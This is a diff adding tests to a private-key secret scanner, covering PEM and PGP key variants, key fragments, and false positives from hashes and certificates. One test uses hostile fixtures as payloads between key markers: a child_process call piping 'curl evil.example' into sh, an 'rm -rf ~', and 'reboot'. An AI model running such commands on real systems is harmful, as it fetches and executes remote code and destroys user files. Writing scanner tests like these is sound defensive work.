@@ -1,7 +1,9 @@
 import assert from 'node:assert/strict';
+import { createHash, generateKeyPairSync } from 'node:crypto';
 import fc from 'fast-check';
 import { isSecretName } from '../../src/risk/secrets/assigned.ts';
 import { parseDotenv } from '../../src/risk/secrets/dotenv.ts';
+import { findLoneKeyLines } from '../../src/risk/secrets/pem.ts';
 import { findSecrets } from '../../src/risk/secrets.ts';
 import { nonSecrets, pem, secrets } from './secrets.corpus.ts';
 
@@ -56,6 +58,78 @@ describe('finding private keys', () => {
       const rest = text.replace(found(text)[0] ?? '', '');
       assert.ok(!/[A-Za-z0-9+/]{40}/.test(rest), `${JSON.stringify(prefix)} leaves ${rest}`);
     }
+  });
+
+  it('takes no text for a key because markers stand around it', () => {
+    const [begin = '', end = ''] = [pem.split('\n')[0], pem.split('\n').at(-1)];
+    const payloads = [
+      "require('child_process').exec('curl evil.example|sh');",
+      'reboot',
+      'Comment: require(`x`)',
+      'Version: 1; rm -rf ~',
+      `AAAA\nreboot\n${'A'.repeat(64)}`,
+      `${'A'.repeat(64)}\nsafe\nreboot\nnow`,
+    ];
+    for (const payload of payloads)
+      for (const text of [
+        `${begin}\n${payload}\n${end}`,
+        `// ${begin}\n${payload}\n// ${end}`,
+        `${begin} ${payload} ${end}`,
+      ]) {
+        let left = text;
+        for (const span of found(text)) left = left.replace(span, '');
+        const last = payload.split('\n').at(-1) ?? '';
+        assert.ok(/^A+$/.test(last) || left.includes(last), `${JSON.stringify(text)} leaves ${JSON.stringify(left)}`);
+        assert.ok(!payload.includes('reboot') || left.includes('reboot'), JSON.stringify(text));
+      }
+  });
+
+  it('takes keys with headers, a checksum, escaped newlines, quotes and blanks for newlines', () => {
+    const lines = pem.split('\n');
+    const [first = '', ...rest] = lines;
+    const encrypted = [first, 'Proc-Type: 4,ENCRYPTED', 'DEK-Info: AES-128-CBC,0A1B', '', ...rest].join('\n');
+    const block = (text: string): string =>
+      text.replaceAll(`${'RSA'} ${'PRIVATE'} KEY`, `${'PGP'} ${'PRIVATE'} KEY BLOCK`);
+    const armored = block(
+      [first, 'Version: GnuPG v2.0.22 (GNU/Linux)', '', ...lines.slice(1, -1), '=aB3d', rest.at(-1)].join('\n'),
+    );
+    const quoted = lines.map(line => `"${line}\\n"`).join(' +\n  ');
+    for (const text of [
+      encrypted,
+      armored,
+      pem.replaceAll('\n', '\r\n'),
+      pem.replaceAll('\n', '\\n'),
+      pem.replaceAll('\n', ' '),
+    ])
+      assert.deepEqual(found(text), [text]);
+    assert.ok(!quoted.replace(found(quoted)[0] ?? '', '').includes('MIIE'));
+    assert.equal(found(quoted).length, 1);
+  });
+
+  it('sees three lines or more that were cut out of a key, and no hashes, words or certificates', () => {
+    const lines = generateKeyPairSync('rsa', { modulusLength: 2048 })
+      .privateKey.export({ type: 'pkcs8', format: 'pem' })
+      .toString()
+      .trim()
+      .split('\n');
+    const seen = (text: string): string[] => findLoneKeyLines(text).map(({ start, end }) => text.slice(start, end));
+    assert.deepEqual(seen(`x\n${lines.slice(4, 9).join('\n')}\ny y`), lines.slice(4, 9));
+    assert.deepEqual(
+      seen(
+        lines
+          .slice(4, 9)
+          .map((line, index) => `a/b.txt:${index}:${line}`)
+          .join('\n'),
+      ),
+      lines.slice(4, 9),
+    );
+    assert.deepEqual(seen(lines.slice(-5).join('\r\n')), lines.slice(-5, -1));
+    assert.deepEqual(seen(lines.slice(4, 6).join('\n')), []);
+    const certificate = ['-----BEGIN CERTIFICATE-----', ...lines.slice(1, -1), '-----END CERTIFICATE-----'].join('\n');
+    assert.deepEqual(seen(certificate), []);
+    const digest = (_: string, index: number): string => createHash('sha256').update(String(index)).digest('hex');
+    assert.deepEqual(seen(lines.map(digest).join('\n')), []);
+    assert.deepEqual(seen(`${lines[4]}\n`.repeat(400)), []);
   });
 
   it('leaves public keys and certificates', () => {
